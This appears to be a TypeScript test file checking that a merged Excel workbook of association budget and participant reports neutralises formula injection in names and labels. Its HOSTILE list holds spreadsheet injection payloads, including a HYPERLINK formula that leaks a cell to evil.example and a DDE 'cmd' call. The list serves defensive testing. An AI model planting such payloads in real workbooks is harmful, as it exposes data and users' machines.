/** The merged workbook read back cell by cell: only our formulas, no association text that could run as one. */
import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { mergedWorkbook, SUPPRESSED } from "../../service/merged-workbook";
import { merge } from "../../shared/merge";
import { budgetReport, participantsReport } from "./helpers";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
  "+SUM(1,2)",
  "-2+3",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r\n=1",
  "=1+1",
];

/** Formulas the builder writes: cell references, SUM/SUMIF/IF/IFERROR/COUNTIF, our own literals. */
const OUR_FORMULA =
  /^(?:SUM\([A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+-[A-Z]+\d+|IF\([A-Z]+\d+=0,"",[A-Z]+\d+\/[A-Z]+\d+\)|IFERROR\([A-Z]+\d+\/[A-Z]+\d+,""\)|SUMIF\(D\d+:D\d+,"(?:Intäkter|Kostnader)",H\d+:H\d+\)|IF\(COUNTIF\([A-Z]+\d+:[A-Z]+\d+,"\.\."\)>0,"\.\.",SUM\([A-Z]+\d+:[A-Z]+\d+\)\))$/;

interface CellSeen {
  readonly where: string;
  readonly formula: string | null;
  readonly text: string | null;
}

async function cellsOf(buffer: Buffer): Promise<CellSeen[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const seen: CellSeen[] = [];
  for (const ws of wb.worksheets)
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        const where = `${ws.name}!${cell.address}`;
        const v = cell.value;
        if (v !== null && typeof v === "object" && "formula" in v)
          seen.push({ where, formula: v.formula, text: null });
        else if (v !== null && typeof v === "object" && "sharedFormula" in v)
          seen.push({ where, formula: `shared:${String(v.sharedFormula)}`, text: null });
        else if (typeof v === "string") seen.push({ where, formula: null, text: v });
        else if (v !== null && typeof v === "object" && "richText" in v)
          seen.push({ where, formula: null, text: v.richText.map((r) => r.text).join("") });
      }),
    );
  return seen;
}

function unsafe(cells: readonly CellSeen[]): [string, string][] {
  return cells.flatMap((c): [string, string][] => {
    if (c.formula !== null) return OUR_FORMULA.test(c.formula) ? [] : [[c.where, `formula ${c.formula}`]];
    if (c.text !== null && /^[=+\-@\t\r\n]/.test(c.text)) return [[c.where, `text ${c.text}`]];
    return [];
  });
}

function hostileBudgetView(strings: readonly string[], withOverride = true) {
  const associations = strings.map((s, i) => ({ id: `a${i}`, name: s }));
  const reports = strings.map((s, i) => ({
    associationId: `a${i}`,
    period: "2009",
    revision: 1,
    createdAt: "2009-11-30T00:00:00Z",
    report: {
      ...budgetReport({
        years: ["2009"],
        lines: [
          ["income", "medlemsbidrag", s, 1000 + i],
          ["cost", "insatser", `${s} (insats)`.slice(0, 500), 800],
          ["cost", "övrigt", s, 100],
        ],
      }),
      sheet: s,
      title: s,
    },
  }));
  return merge({
    kind: "budget",
    period: "2009",
    associations,
    reports,
    overrides: withOverride ? [{ associationId: "a0", label: strings[0]!, group: "styrelse" }] : [],
  });
}

describe("merged workbook", () => {
  it("When association names and labels are hostile, then no cell holds a foreign formula or a text starting with = + - @", async () => {
    const view = hostileBudgetView(HOSTILE);
    const cells = await cellsOf(await mergedWorkbook(view));
    expect(unsafe(cells)).toEqual([]);
    // The hostile text is there, neutralised, and our formulas are there too.
    expect(cells.filter((c) => c.text === `'${HOSTILE[0]}`).length).toBeGreaterThan(0);
    expect(
      cells
        .filter((c) => c.where.startsWith("Jämförelse!") && c.formula?.startsWith("SUM("))
        .map((c) => c.where),
    ).toEqual(["D13", "E13", "F13", "G13", "H13", "I13", "J13", "K13", "L13"].map((a) => `Jämförelse!${a}`));
  });

  it("When the comparison sheet is read back, then the network row sums the association rows with live formulas", async () => {
    const view = hostileBudgetView(["Ale", "Nora", "Lerum"], false);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await mergedWorkbook(view)) as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("Jämförelse")!;
    const total = ws.getRow(8);
    expect([total.getCell(1).value, total.getCell(4).value, total.getCell(5).value]).toEqual([
      "Nätverket totalt (3 av 3 förbund)",
      { formula: "SUM(D5:D7)", result: 1000 + 1001 + 1002 },
      { formula: "SUM(E5:E7)", result: 3 * 900 },
    ]);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Jämförelse", "Ale", "Nora", "Lerum"]);
  });

  it("Property: any label or name, the workbook stays inert", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.oneof(
            fc.string({ minLength: 1, maxLength: 40 }),
            fc.constantFrom(...HOSTILE),
            fc.string({ minLength: 1, maxLength: 20 }).map((s) => `=${s}`),
          ),
          { minLength: 1, maxLength: 5 },
        ),
        async (strings) => {
          const names = strings.map((s) => (s.trim() === "" ? "x" : s));
          const cells = await cellsOf(await mergedWorkbook(hostileBudgetView(names)));
          expect(unsafe(cells)).toEqual([]);
        },
      ),
      { numRuns: 40 },
    );
  });

  it("When participant counts are suppressed, then the sheet shows '..' and the network formula withholds the total", async () => {
    const reports = [
      participantsReport("2014"),
      participantsReport("2014", { byKon: { kvinna: null, man: 12 }, byHemkommun: { "=Nora": 3 } }, [
        "byKon.kvinna",
      ]),
    ].map((report, i) => ({
      associationId: `a${i}`,
      period: "2014",
      revision: 1,
      createdAt: "2015-01-01T00:00:00Z",
      report,
    }));
    const view = merge({
      kind: "participants",
      period: "2014",
      associations: [
        { id: "a0", name: "Ale" },
        { id: "a1", name: "@Nora" },
      ],
      reports,
    });
    const buffer = await mergedWorkbook(view);
    expect(unsafe(await cellsOf(buffer))).toEqual([]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buffer as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("Jämförelse")!;
    // Columns: Förbund, Revision, Period, Insats, Deltagare, Nya, Avslutade, …, Kvinnor (I), Män (J).
    expect([ws.getCell("I6").value, ws.getCell("J6").value]).toEqual([SUPPRESSED, 12]);
    expect(ws.getCell("I7").value).toEqual({
      formula: 'IF(COUNTIF(I5:I6,"..")>0,"..",SUM(I5:I6))',
      result: SUPPRESSED,
    });
    expect(ws.getCell("J7").value).toEqual({
      formula: 'IF(COUNTIF(J5:J6,"..")>0,"..",SUM(J5:J6))',
      result: 30,
    });
  });
});
